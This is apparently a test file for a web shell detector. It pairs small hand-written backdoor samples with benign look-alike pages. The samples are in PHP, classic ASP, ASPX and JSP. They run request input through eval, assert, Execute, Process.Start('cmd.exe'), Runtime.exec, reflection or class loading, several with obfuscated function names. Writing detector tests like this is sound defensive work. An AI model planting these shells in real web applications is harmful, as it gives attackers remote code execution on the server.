/**
 * One small hand-written shell per mechanism and language, and hand-written benign pages that
 * look like them (same APIs, no path from the requester to code, commands or the connection).
 * The shells are written for these tests from the mechanisms' descriptions; no corpus file.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { findingOf, reasons } from './helpers.js';

/**
 * Malicious through a complete source-to-sink path: a flow of weight 10 or more, and the given
 * reason among the evidence (a RegExp where the pattern pass and the data-flow pass may each
 * be the one that reports the path).
 */
function malicious(path: string, text: string, reason: string | RegExp): void {
  const f = findingOf(path, text);
  assert.equal(f?.verdict, 'malicious', `${path}: ${JSON.stringify(f?.evidence)}`);
  assert.ok(
    f?.evidence.some((e) => e.analyzer === 'flow' && e.weight >= 10),
    `${path}: no complete path in ${JSON.stringify(f?.evidence)}`,
  );
  const ok = typeof reason === 'string' ? reasons(f).includes(reason) : reasons(f).some((r) => reason.test(r));
  assert.ok(ok, `${path}: expected ${String(reason)} in ${JSON.stringify(reasons(f))}`);
}

function clean(path: string, text: string): void {
  const f = findingOf(path, text);
  assert.equal(f, undefined, `${path}: ${JSON.stringify(f?.evidence)}`);
}

test('php data flow: request body through explode into an __invoke that evals (callable object)', () => {
  malicious(
    'inv.php',
    `<?php
$post = file_get_contents("php://input");
$parts = explode('|', $post);
$code = $parts[1];
class Runner { public function __invoke($p) { eval($p . ""); } }
@call_user_func(new Runner(), $code);
`,
    'data flow: request input reaches eval()',
  );
});

test('php data flow: function name from escapes and ~ called through a variable with a header value', () => {
  malicious('esc.php', `<?php $f = "\\x73\\x79" . 'stem'; $f($_POST['c']);`, /dangerous function name is called|reaches system\(\) called through a variable/);
  malicious(
    'not.php',
    `<?php $f = ~"\\x8c\\x86\\x8c\\x8b\\x9a\\x92"; $h = getallheaders(); $f($h['X-Run']);`,
    /dangerous function name is called|reaches system\(\) called through a variable/,
  );
});

test('php data flow: callbacks with a decoded dangerous callee, or a callee the request names', () => {
  malicious(
    'map.php',
    `<?php $k = base64_decode('YXNzZXJ0'); array_map($k, array($_REQUEST['x']));`,
    /calls a variable holding a dangerous function name|reaches assert\(\) through array_map/,
  );
  malicious(
    'shut.php',
    `<?php register_shutdown_function($_GET['f'], $_GET['a']);`,
    /request input chooses the function register_shutdown_function\(\) calls|request chooses the callback register_shutdown_function/,
  );
});

test('php data flow: getter functions, constructors and destructors carry request data', () => {
  malicious('ret.php', `<?php function k() { return $_COOKIE['k']; } $x = k(); eval($x);`, /reaches eval\(\)/);
  malicious(
    'obj.php',
    `<?php class A { public $c; function __construct($v) { $this->c = $v; } function __destruct() { assert($this->c); } } $a = new A($_POST['z']);`,
    'data flow: request input reaches assert()',
  );
});

test('php data flow: reflection, include of the uploaded file, preg_replace /e', () => {
  malicious('refl.php', `<?php $r = new ReflectionFunction($_GET['f']); $r->invoke($_GET['a']);`, /function (?:invoked|called) through reflection/);
  malicious('inc.php', `<?php include $_FILES['f']['tmp_name'];`, /file to include as code|file include runs/);
  malicious('pre.php', `<?php $p = '/' . 'x' . '/e'; echo preg_replace($p, $_POST['r'], 'x');`, /\/e modifier|preg_replace\(\) with the \/e/);
});

test('php data flow look-alikes: registry lookups, fixed callbacks, sanitized includes, counting', () => {
  clean('hook.php', `<?php $page = $_GET['page']; $hook = get_plugin_page_hook($page); if ($hook) { do_action($hook); }`);
  clean('upper.php', `<?php $cb = 'strtoupper'; echo implode(',', array_map($cb, array($_GET['q'])));`);
  clean('pages.php', `<?php include __DIR__ . '/pages/' . basename($_GET['p']) . '.php';`);
  clean('count.php', `<?php $n = intval($_GET['n']); $f = 'str_repeat'; echo $f('-', $n);`);
});

test('classic asp: code, piece-built code and the database connection chosen by the request', () => {
  malicious('a.asp', `<% Execute(Request("c")) %>`, 'request input reaches Execute');
  malicious('b.asp', `<%\nc = Request.Form("z")\nEval("Exe" & "cute(c)")\n%>`, 'request-derived variable reaches Eval through code built from pieces');
  const db = findingOf(
    'db.asp',
    `<%\nSet conn = Server.CreateObject("ADODB.Connection")\nconn.Open Request("dsn")\nSet rs = conn.Execute(Request("sql"))\nResponse.Write rs(0)\n%>`,
  );
  assert.ok(reasons(db).includes('request chooses the database connection and the SQL it runs (database client backdoor)'));
  // the connection string kept in the session by an earlier request
  const kept = findingOf(
    'kept.asp',
    `<%\nIf Request("dsn") <> "" Then Session("dsn") = Request("dsn")\nSet c = Server.CreateObject("ADODB.Connection")\nc.Open Session("dsn")\nSet rs = c.Execute(Request.Form("q"))\n%>`,
  );
  assert.ok(reasons(kept).includes('request chooses the database connection and the SQL it runs (database client backdoor)'));
});

test('classic asp look-alikes: injectable SQL on the site connection, own Execute methods, generated assignments, admin pages', () => {
  clean(
    'news.asp',
    `<!--#include file="conn.asp"-->\n<%\nid = Request("id")\nsql = "select * from news where id=" & id\nSet rs = Server.CreateObject("ADODB.Recordset")\nrs.Open sql, conn, 1, 1\nResponse.Write rs("title")\n%>`,
  );
  clean(
    'standalone.asp',
    `<%\nSet conn = Server.CreateObject("ADODB.Connection")\nconn.Open "Provider=Microsoft.Jet.OLEDB.4.0;Data Source=" & Server.MapPath("db.mdb")\nkw = Request.Form("kw")\nSet rs = conn.Execute("select * from items where name like '%" & kw & "%'")\n%>`,
  );
  clean('form.asp', `<%\nFor Each f In Array("title", "body")\n  Execute(f & "=Trim(Request.Form(""" & f & """))")\nNext\n%>`);
  clean(
    'db.asp',
    `<%\nClass Db\n  Function Execute(sql)\n    Set Execute = conn.Execute(sql)\n  End Function\nEnd Class\nSet d = New Db\nSet rs = Execute("select id from users where name='" & Request("u") & "'")\n%>`,
  );
  clean(
    'admin/files.asp',
    `<!--#include file="../inc/conn.asp"-->\n<!--#include file="check_admin.asp"-->\n<%\nSet fso = Server.CreateObject("Scripting.FileSystemObject")\nfso.DeleteFile Server.MapPath("/uploads/" & Request("file"))\nSet ts = fso.CreateTextFile(Server.MapPath("/html/" & Request("name") & ".html"))\nts.Write Request.Form("content")\n%>`,
  );
});

test('aspx: command and assembly loading from the request; encoding a value is clean', () => {
  malicious('c.aspx', `<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]); %>`, 'request input reaches Process.Start');
  const load = findingOf('l.aspx', `<%@ Page Language="C#" %><% System.Reflection.Assembly.Load(Convert.FromBase64String(Request.Form["p"])).CreateInstance("X").Equals(this); %>`);
  assert.equal(load?.verdict, 'malicious');
  clean('ok.aspx', `<%@ Page Language="C#" %><% var name = Request["name"]; Response.Write(Server.HtmlEncode(name)); %>`);
});

test('jsp: Runtime.exec, ScriptEngine, request bytes defined as a class; JDBC driver loading is clean', () => {
  malicious('r.jsp', `<% Runtime.getRuntime().exec(request.getParameter("c")); %>`, 'request input reaches Runtime.exec');
  const se = findingOf('s.jsp', `<% javax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByName("js"); e.eval(request.getParameter("x")); %>`);
  assert.equal(se?.verdict, 'malicious');
  const cl = findingOf(
    'b.jsp',
    `<%! class U extends ClassLoader { U(ClassLoader c) { super(c); } public Class g(byte[] b) { return super.defineClass(b, 0, b.length); } } %><% byte[] k = java.util.Base64.getDecoder().decode(request.getReader().readLine()); new U(this.getClass().getClassLoader()).g(k).newInstance().equals(pageContext); %>`,
  );
  assert.equal(cl?.verdict, 'malicious');
  clean(
    'db.jsp',
    `<% Class.forName("com.mysql.jdbc.Driver"); java.sql.Connection c = java.sql.DriverManager.getConnection("jdbc:mysql://localhost/app", "app", "secret"); String name = request.getParameter("name"); out.println(name == null ? "" : name.length()); %>`,
  );
});
